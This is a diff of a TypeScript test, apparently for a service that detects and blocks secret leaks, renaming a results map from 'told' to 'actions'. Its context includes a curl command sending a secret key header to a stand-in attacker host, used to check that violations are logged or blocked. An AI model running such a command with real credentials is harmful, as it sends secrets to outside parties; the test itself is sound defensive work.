@@ -139,18 +139,18 @@ test('a violation is told with the action of its secret, of all, or the default,
     const { code } = await sh(`curl -sSk -m 20 -H 'X: $SVC_KEY' https://${EVIL}/${path}`);
     assert.notEqual(code, 0, path);
   }
-  const told = new Map<string, string>();
+  const actions = new Map<string, string>();
   await waitUntil(async () => {
     for await (const { payload } of Events.list({ client, type: 'secret_violation' })) {
       const [, action = '', path = ''] =
         /"action":"(\w+)".*"path":"\/([^"]*)"/.exec(JSON.stringify(payload)) ?? [];
-      told.set(path, action);
+      actions.set(path, action);
     }
-    return told.size === cases.length;
+    return actions.size === cases.length;
   });
   const log = await readFile(web.server.engine.logFile, 'utf8');
   for (const [path, action] of cases) {
-    assert.equal(told.get(path), action, path);
+    assert.equal(actions.get(path), action, path);
     assert.equal(log.includes(`/${path}`), action !== 'block', path);
   }
   assert.ok(!web.said.some((request) => request.startsWith(EVIL) && request.includes(' X ')));
